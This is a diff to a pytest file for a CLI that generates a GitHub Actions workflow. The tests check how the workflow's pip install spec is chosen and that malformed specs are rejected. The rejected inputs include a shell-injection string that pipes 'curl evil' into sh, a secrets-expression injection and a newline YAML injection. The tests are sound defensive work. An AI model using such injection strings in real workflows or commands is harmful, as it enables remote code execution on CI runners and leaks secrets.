@@ -2,15 +2,18 @@
 
 from __future__ import annotations
 
+import json
 import re
 import subprocess
 import sys
 from pathlib import Path
 
+import pytest
+import yaml
 from conftest import agentgit, git
 
 from agentgit import __version__
-from agentgit.ci import WORKFLOW_PATH, render_workflow
+from agentgit.ci import WORKFLOW_PATH, Install, install_from, render_workflow
 
 
 def run_lines(text: str) -> list[str]:
@@ -56,7 +59,14 @@ def test_init_ci_writes_a_valid_least_privilege_workflow(tmp_path: Path) -> None
     assert re.search(r"timeout-minutes: \d+", text)
     assert "fetch-depth: 0" in text
     assert 'python-version: "3.11"' in text
-    assert f"agentgit=={__version__}" in text
+    # This test venv has agentgit as an editable checkout, which no runner can reach: the
+    # workflow falls back to the index version, and init says to pass --install.
+    assert install_step(text) == f"python -m pip install 'agentgit=={__version__}'"
+    assert proc.stderr.splitlines() == [
+        f"warning: The workflow installs agentgit=={__version__} from the package index, but "
+        "this agentgit came from an editable checkout (file://"
+        f"{Path(__file__).resolve().parents[1]}), which a runner cannot reach: pass "
+        "--install SPEC (a pip argument, e.g. git+https://github.com/OWNER/agentgit@COMMIT)"]
     assert "git config user.name" in text and "git config user.email" in text
     assert "ANTHROPIC_API_KEY: ${{ secrets.ANTHROPIC_API_KEY }}" in text
     assert "GITHUB_TOKEN: ${{ github.token }}" in text
@@ -88,3 +98,76 @@ def test_the_rendered_run_lines_hold_no_event_text() -> None:
     text = render_workflow()
     for line in run_lines(text):
         assert "${{ github.event" not in line and "${{ inputs" not in line
+
+
+def install_step(text: str) -> str:
+    steps = yaml.safe_load(text)["jobs"]["session"]["steps"]
+    (step,) = [s for s in steps if s.get("name") == "Install agentgit"]
+    return step["run"].strip()
+
+
+SHA = "0123456789abcdef0123456789abcdef01234567"
+
+
+def test_init_ci_writes_the_install_spec_it_is_given_verbatim(tmp_path: Path) -> None:
+    spec = f"git+https://git.example.invalid/me/agentgit.git@{SHA}#subdirectory=py"
+    proc = agentgit(tmp_path, "init", "corpus", "--ci", "github", "--install", spec)
+    assert proc.returncode == 0 and proc.stderr == "", proc.stderr
+    text = (tmp_path / "corpus" / WORKFLOW_PATH).read_text("utf-8")
+    assert install_step(text) == f"python -m pip install '{spec}'"
+    assert git(tmp_path / "corpus", "show", f"main:{WORKFLOW_PATH}") == text
+
+
+@pytest.mark.parametrize("args", [
+    ["--ci", "github", "--install", ""],
+    ["--ci", "github", "--install", "agentgit'; curl evil | sh; '"],
+    ["--ci", "github", "--install", "${{ secrets.ANTHROPIC_API_KEY }}"],
+    ["--ci", "github", "--install", "agentgit\nrun: evil"],
+    ["--install", "agentgit==0.1.0"],  # without --ci it has nowhere to go
+])
+def test_a_bad_install_spec_is_usage_and_writes_nothing(tmp_path: Path, args: list[str]) -> None:
+    proc = agentgit(tmp_path, "init", "corpus", *args)
+    assert proc.returncode == 2, proc.stderr
+    assert len(proc.stderr.splitlines()) == 1 and "--install" in proc.stderr
+    assert not (tmp_path / "corpus").exists()
+
+
+def _direct_url(**data: object) -> str:
+    return json.dumps(data)
+
+
+@pytest.mark.parametrize("direct_url, spec, says", [
+    # PEP 610's own shapes: a VCS install, one from a subdirectory, an archive by URL.
+    (_direct_url(url="https://github.com/me/agentgit.git",
+                 vcs_info={"vcs": "git", "commit_id": SHA, "requested_revision": "main"}),
+     f"git+https://github.com/me/agentgit.git@{SHA}", False),
+    (_direct_url(url="ssh://git@github.com/me/mono.git", subdirectory="agentgit",
+                 vcs_info={"vcs": "git", "commit_id": SHA}),
+     f"git+ssh://git@github.com/me/mono.git@{SHA}#subdirectory=agentgit", False),
+    (_direct_url(url="https://example.invalid/agentgit-0.1.0-py3-none-any.whl",
+                 archive_info={"hashes": {"sha256": "00"}}),
+     "agentgit @ https://example.invalid/agentgit-0.1.0-py3-none-any.whl", False),
+    # What no runner can reach: the index version, and a line saying so.
+    (_direct_url(url="file:///home/me/agentgit", dir_info={"editable": True}),
+     f"agentgit=={__version__}", True),
+    (_direct_url(url="file:///home/me/agentgit", dir_info={}), f"agentgit=={__version__}", True),
+    (_direct_url(url="file:///tmp/agentgit-0.1.0-py3-none-any.whl", archive_info={}),
+     f"agentgit=={__version__}", True),
+    (_direct_url(url="file:///home/me/agentgit", vcs_info={"vcs": "git", "commit_id": SHA}),
+     f"agentgit=={__version__}", True),
+    ("{not json", f"agentgit=={__version__}", True),
+    (_direct_url(url="https://me:s3cret@git.example.invalid/agentgit.git",
+                 vcs_info={"vcs": "git", "commit_id": SHA}), f"agentgit=={__version__}", True),
+    # Installed from an index: that index has it.
+    (None, f"agentgit=={__version__}", False),
+])
+def test_the_default_install_follows_how_this_copy_was_installed(
+        direct_url: str | None, spec: str, says: bool) -> None:
+    found = install_from(direct_url)
+    assert found.spec == spec
+    assert (found.note is not None) == says
+    if says:
+        assert "--install" in (found.note or "") and "\n" not in (found.note or "")
+    assert install_step(render_workflow(install=found.spec)) == (
+        f"python -m pip install '{spec}'")
+    assert Install(spec).note is None
